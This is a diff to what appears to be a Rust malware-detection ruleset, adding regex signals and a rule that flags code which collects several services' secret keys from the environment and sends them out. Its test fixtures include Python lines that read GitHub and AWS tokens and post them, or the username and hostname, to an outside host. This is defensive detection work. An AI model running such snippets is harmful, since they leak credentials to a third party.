@@ -37,7 +37,22 @@ static WHERE: Signal = Signal::command(
 
 static ENVIRONMENT_OUT: Flow = Flow { sources: &[&WRITTEN], ..SECRETS_OUT };
 
-pub(super) static RULES: &[Rule] = &[Rule {
+/// Names of several keys, one behind the other.
+static KEYS_LISTED: Signal = Signal::command(
+    &["_token", "_key", "_secret", "_password"],
+    r#"(?x)
+      ["'][A-Z][A-Z0-9]*_(?:[A-Z0-9]+_)*(?:TOKEN|SECRET|KEY|PASSWORD|CREDENTIALS)["']\s*,\s*["'][A-Z][A-Z0-9]*_(?:[A-Z0-9]+_)*(?:TOKEN|SECRET|KEY|PASSWORD|CREDENTIALS|ID)["']"#,
+);
+
+/// … taken by name and kept.
+static KEYS_TAKEN: Signal = Signal::command(
+    &["environ", "getenv", "process.env[", "env["],
+    r"(?x)
+      [=(,:]\s*os\.environ(?:\.get\(|\[)\s*[a-z]\w*\s*[),\]] | [=(,:]\s*os\.getenv\(\s*[a-z]\w*\s*[),] | [=(,:]\s*process\.env\[\s*[a-z]\w*\s*\] | [=(,:>]\s*ENV\[\s*[a-z]\w*\s*\]",
+);
+
+pub(super) static RULES: &[Rule] = &[
+    Rule {
     id: "MALWAR-FLOW-008",
     title: "The whole environment flows to another machine",
     severity: Severity::Critical,
@@ -79,7 +94,28 @@ pub(super) static RULES: &[Rule] = &[Rule {
     hits: &["@a.py\nq = urlencode({'u': getpass.getuser(), 'h': socket.gethostname()})\nurllib.request.urlopen('https://h.fast-agent.top/w?' + q)\n"],
     misses: &["@a.py\nprint(getpass.getuser(), socket.gethostname())\n"],
     ..Rule::BASE
-}];
+    },
+    Rule {
+        id: "MALWAR-EXFIL-089",
+        title: "Keys of several services are taken by a list of names, and something is sent",
+        severity: Severity::High,
+        confidence: 66,
+        category: Category::DataExfiltration,
+        taxa: &["EX-02", "EX-03"],
+        why: "a program that talks to one service needs the key of one service",
+        fix: "remove the code; renew the keys that it names",
+        when: When::Near(700, &[&[&KEYS_LISTED], &[&KEYS_TAKEN], &[&CODE_SEND, &WAY_OUT]]),
+        guard: Some(hosts::stranger),
+        hits: &[
+            "@a.py\nfor name in ('GITHUB_TOKEN', 'AWS_SECRET_ACCESS_KEY'):\n    bag.add(name, os.environ.get(name))\nrequest.urlopen(request.Request('https://d.fast-agent.top/v', bag.text()))\n",
+        ],
+        misses: &[
+            "@a.py\nfor name in ('GITHUB_TOKEN', 'NPM_TOKEN'):\n    if not os.environ.get(name):\n        sys.exit(name)\nrequests.post('https://d.fast-agent.top/v')\n",
+            "@a.py\nfor name in ('GITHUB_TOKEN', 'NPM_TOKEN'):\n    print(name, os.environ.get(name) is not None)\n",
+        ],
+        ..Rule::BASE
+    },
+];
 
 fn environment_out(reading: &Reading<'_>) -> Vec<Hit> {
     flows(reading, &ENVIRONMENT_OUT)
